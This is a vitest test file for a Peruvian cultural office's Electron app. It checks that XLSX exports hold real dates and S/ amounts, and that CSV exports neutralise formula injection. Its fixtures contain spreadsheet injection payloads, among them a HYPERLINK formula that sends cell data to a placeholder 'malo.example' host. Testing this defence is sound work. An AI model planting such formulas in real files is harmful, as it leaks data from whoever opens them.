import fs from 'node:fs';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cellFormats, centsText, excelDate, neutraliseCsvText, tableBytes, type Column } from '../../../electron/main/export/table';
import type { ExportResult } from '../../../shared/ipc';
import { testApp, validEstablishment, type TestApp } from '../../helpers/services';

/**
 * Issue 13 item 10 and issue 12 item 9: every XLSX the app writes holds dates as Excel dates
 * (shown dd/mm/aaaa) and money as numbers in S/ with two decimals, so the office can sum and
 * sort them; CSV keeps the text forms and never carries a cell Excel would run as a formula.
 * Each file is read back with exceljs, as the office's Excel would open it.
 */

const reason = 'Control patrimonial anual, memorando 12-2026';
const S = cellFormats.money;

async function book(r: ExportResult): Promise<ExcelJS.Workbook> {
  if (r.status !== 'saved') throw new Error('cancelled');
  expect(r.path).toMatch(/\.xlsx$/);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(r.path);
  return wb;
}

/** The cells of the column headed `header` below the header row (blank cells left out). */
function column(ws: ExcelJS.Worksheet, header: string): ExcelJS.Cell[] {
  const head = ws.getRow(1);
  let index = 0;
  head.eachCell((c, i) => {
    if (c.value === header) index = i;
  });
  expect(index, `column «${header}» in ${ws.name}: ${JSON.stringify(head.values)}`).toBeGreaterThan(0);
  const cells: ExcelJS.Cell[] = [];
  ws.getColumn(index).eachCell({ includeEmpty: false }, (c, row) => {
    if (row > 1 && c.value !== null && c.value !== '') cells.push(c);
  });
  return cells;
}

function expectDates(ws: ExcelJS.Worksheet, header: string, format: string = cellFormats.date) {
  const cells = column(ws, header);
  expect(cells.length, `${ws.name} · ${header}`).toBeGreaterThan(0);
  for (const c of cells) {
    expect(c.value, `${ws.name} · ${header} ${c.address}`).toBeInstanceOf(Date);
    expect(c.numFmt, `${ws.name} · ${header} ${c.address}`).toBe(format);
  }
}

function expectMoney(ws: ExcelJS.Worksheet, header: string, format: string = S) {
  const cells = column(ws, header);
  expect(cells.length, `${ws.name} · ${header}`).toBeGreaterThan(0);
  for (const c of cells) {
    expect(typeof c.value, `${ws.name} · ${header} ${c.address}: ${String(c.value)}`).toBe('number');
    expect(c.numFmt, `${ws.name} · ${header} ${c.address}`).toBe(format);
    // Two decimals at most: céntimos, never a float's tail.
    expect(Math.round((c.value as number) * 100) / 100).toBe(c.value);
  }
}

describe('the table writer (export/table.ts)', () => {
  interface R {
    text: string;
    day: string | null;
    at: string;
    cents: number | null;
    n: number;
  }
  const columns: Column<R>[] = [
    { header: 'Texto', width: 20, value: (r) => r.text },
    { header: 'Fecha', width: 12, kind: 'date', value: (r) => r.day },
    { header: 'Fecha y hora', width: 16, kind: 'dateTime', value: (r) => r.at },
    { header: 'Monto', width: 14, kind: 'money', value: (r) => r.cents },
    { header: 'Cantidad', width: 10, value: (r) => r.n },
  ];
  const rows: R[] = [
    { text: 'Violín 4/4', day: '2026-03-05', at: '2026-03-06T04:30:00.000Z', cents: 125_050, n: 3 },
    { text: '=HYPERLINK("http://malo.example/?x="&A1;"Clic")', day: '2026-12-31', at: '2026-01-01T05:00:00.000Z', cents: -1_250, n: -7 },
    { text: '+51 999 888 777', day: null, at: '2026-07-28T17:05:00.000Z', cents: null, n: 0 },
    { text: '-2 cuerdas rotas', day: 'pendiente', at: '2026-07-28T17:05:00.000Z', cents: 5, n: 1 },
    { text: '@SUM(A1:A3)', day: '2026-02-01', at: '2026-02-01T12:00:00.000Z', cents: 0, n: 2 },
    { text: '\tcon tabulador', day: '2026-02-01', at: '2026-02-01T12:00:00.000Z', cents: 1, n: 2 },
    { text: '\r=1+1', day: '2026-02-01', at: '2026-02-01T12:00:00.000Z', cents: 99, n: 2 },
  ];

  it('XLSX: dates are Excel dates shown dd/mm/aaaa (Lima time), money a number in S/ with two decimals, negatives stay numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await tableBytes('xlsx', 'Prueba', columns, rows)) as unknown as Parameters<typeof wb.xlsx.load>[0]);
    const ws = wb.worksheets[0]!;
    const r2 = ws.getRow(2);
    expect(r2.getCell(2).value).toEqual(new Date(Date.UTC(2026, 2, 5)));
    expect(r2.getCell(2).numFmt).toBe('dd/mm/yyyy');
    // 04:30 UTC on the 6th is 23:30 of the 5th in Lima.
    expect(r2.getCell(3).value).toEqual(new Date(Date.UTC(2026, 2, 5, 23, 30)));
    expect(r2.getCell(3).numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(r2.getCell(4).value).toBe(1250.5);
    expect(r2.getCell(4).numFmt).toBe('"S/" #,##0.00');
    const r3 = ws.getRow(3);
    expect(r3.getCell(4).value).toBe(-12.5);
    expect(r3.getCell(4).type).toBe(ExcelJS.ValueType.Number);
    expect(r3.getCell(5).value).toBe(-7);
    // A text that looks like a formula is only text in an XLSX: Excel never runs it.
    expect(r3.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(r3.getCell(1).value).toBe(rows[1]!.text);
    // An empty date or amount stays empty; a date that is not a date is kept as written.
    expect(ws.getRow(4).getCell(2).value).toBeNull();
    expect(ws.getRow(4).getCell(4).value).toBeNull();
    expect(ws.getRow(5).getCell(2).value).toBe('pendiente');
    expect(ws.getRow(5).getCell(4).value).toBe(0.05);
  });

  it('CSV: dates and amounts as text (dd/mm/aaaa, 1250.50), and no text cell Excel would run as a formula', async () => {
    const csv = (await tableBytes('csv', 'Prueba', columns, rows)).toString('utf8');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.replace(/^\ufeff/, '').split('\n');
    expect(lines[0]).toBe('Texto;Fecha;Fecha y hora;Monto;Cantidad');
    expect(lines[1]).toBe('Violín 4/4;05/03/2026;05/03/2026 23:30;1250.50;3');
    // Text beginning with = + - @ tab or CR gets a leading apostrophe; the amount -12.50 and the
    // number -7 are data the app wrote itself, not formulas, and stay numbers.
    expect(lines[2]).toBe(`"'=HYPERLINK(""http://malo.example/?x=""&A1;""Clic"")";31/12/2026;01/01/2026 00:00;-12.50;-7`);
    expect(lines[3]).toBe("'+51 999 888 777;;28/07/2026 12:05;;0");
    expect(lines[4]).toBe("'-2 cuerdas rotas;pendiente;28/07/2026 12:05;0.05;1");
    expect(lines[5]).toBe("'@SUM(A1:A3);01/02/2026;01/02/2026 07:00;0.00;2");
    expect(csv).toContain("'\tcon tabulador;01/02/2026;01/02/2026 07:00;0.01;2");
    expect(csv).toContain(`"'\r=1+1";01/02/2026;01/02/2026 07:00;0.99;2`);
    for (const line of lines.slice(1)) expect(line).not.toMatch(/^[=+@\t\r]/);
  });

  it('the pieces: Lima dates, exact céntimos, neutralised text', () => {
    expect(excelDate('2026-02-28')).toEqual(new Date(Date.UTC(2026, 1, 28)));
    expect(excelDate('2026-03-01T03:00:00.000Z')).toEqual(new Date(Date.UTC(2026, 1, 28)));
    expect(excelDate('')).toBeNull();
    expect(excelDate('31/02/2026')).toBe('31/02/2026');
    expect(centsText(0)).toBe('0.00');
    expect(centsText(-5)).toBe('-0.05');
    expect(centsText(123_456_789)).toBe('1234567.89');
    expect(neutraliseCsvText('=1+1')).toBe("'=1+1");
    expect(neutraliseCsvText('E.P. de Lurigancho')).toBe('E.P. de Lurigancho');
    expect(neutraliseCsvText(' =1')).toBe(' =1');
  });
});

describe('every XLSX the app writes, read back with exceljs', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await testApp();
    await app.ok('demo.load', {});
  }, 120_000);
  afterAll(() => app?.close());

  it('the instrument register and the inventory reports: acquisition date, cost and value', async () => {
    const register = (await book(await app.ok('instruments.export', { filter: {}, format: 'xlsx', reason }))).worksheets[0]!;
    expectDates(register, 'Fecha de adquisición');
    expectMoney(register, 'Costo (S/)');

    const lurigancho = (await app.ok('establishments.list', { search: 'Lurigancho' })).rows[0]!;
    const byEstablishment = await book(
      await app.ok('inventory.reportByEstablishment', { establishmentId: lurigancho.id, format: 'xlsx', reason }),
    );
    expectDates(byEstablishment.worksheets[0]!, 'Fecha de adquisición');
    expectMoney(byEstablishment.worksheets[0]!, 'Costo (S/)');
    const summary = byEstablishment.worksheets[1]!;
    const totals = column(summary, 'Costo (S/)').filter((c) => typeof c.value === 'number');
    expect(totals.length).toBeGreaterThan(0);
    for (const c of totals) expect(c.numFmt).toBe(S);

    const byCondition = (await book(await app.ok('inventory.reportByCondition', { format: 'xlsx' }))).worksheets[0]!;
    expectMoney(byCondition, 'Valor');

    const movements = (await book(await app.ok('inventory.reportMovements', { from: '2000-01-01', to: '2100-12-31' }))).worksheets[0]!;
    expectDates(movements, 'Fecha');
  });

  it('contracts and the budget execution: dates, fees in S/, US$ beside them', async () => {
    const contracts = (await book(await app.ok('contracts.export', { filter: {}, format: 'xlsx' }))).worksheets[0]!;
    for (const h of ['Inicio', 'Fin']) expectDates(contracts, h);
    for (const h of ['Monto (S/)', 'Total (S/)']) expectMoney(contracts, h);

    const year = Number((await app.ok('budget.years', {}))[0]!.year);
    const budget = (await book(await app.ok('budget.export', { year, format: 'xlsx' }))).worksheets[0]!;
    for (const h of ['Presupuesto (S/)', 'Comprometido (S/)', 'Ejecutado (S/)', 'Disponible (S/)']) expectMoney(budget, h);
    for (const h of ['Presupuesto (US$)', 'Disponible (US$)']) expectMoney(budget, h, cellFormats.usd);
    for (const c of column(budget, 'Usado')) expect(c.numFmt).toBe('0.0%');
  });

  it('workshops, artworks and an exhibition’s checklist', async () => {
    const workshops = (await book(await app.ok('workshops.export', { filter: {}, format: 'xlsx' }))).worksheets[0]!;
    expectDates(workshops, 'Inicio');

    const artworks = (await book(await app.ok('artworks.export', { filter: {}, format: 'xlsx', reason }))).worksheets[0]!;
    expectMoney(artworks, 'Precio (S/)');

    const exhibition = (await app.ok('exhibitions.list', {})).rows[0]!;
    const checklist = (await book(await app.ok('exhibitions.exportChecklist', { exhibitionId: exhibition.id, format: 'xlsx' })))
      .worksheets[0]!;
    const prices = column(checklist, 'Precio (S/)');
    for (const c of prices) {
      expect(typeof c.value).toBe('number');
      expect(c.numFmt).toBe(S);
    }
  });

  it('the audit log: the date and time as an Excel date in Lima’s time', async () => {
    await app.ok('establishments.create', validEstablishment({ code: 'EP-FMT-1', name: 'E.P. Formato' }));
    const audit = (await book(await app.ok('audit.export', { filter: { entity: 'establishment' }, format: 'xlsx', reason })))
      .worksheets[0]!;
    expectDates(audit, 'Fecha y hora', cellFormats.dateTime);
  });

  it('a CSV export keeps the text forms and neutralises a formula typed into a record', async () => {
    await app.ok(
      'establishments.create',
      validEstablishment({ code: 'EP-FMT-2', name: '=HYPERLINK("http://malo.example";"Ver")', city: '@Lima' }),
    );
    const r = await app.ok('establishments.export', { filter: { search: 'malo' }, format: 'csv' });
    if (r.status !== 'saved') throw new Error('cancelled');
    const text = fs.readFileSync(r.path, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://malo.example"";""Ver"")"`);
    expect(text).toContain("'@Lima");
    // What was typed is kept as typed in the database.
    expect((await app.ok('establishments.list', { search: 'malo' })).rows[0]!.name).toBe('=HYPERLINK("http://malo.example";"Ver")');

    const contracts = fs.readFileSync(((await app.ok('contracts.export', { filter: {}, format: 'csv' })) as { path: string }).path, 'utf8');
    expect(contracts).toMatch(/;\d{2}\/\d{2}\/\d{4};\d{2}\/\d{2}\/\d{4};/);
    expect(contracts).toMatch(/;\d+\.\d{2};\d+\.\d{2};/);
  });
});
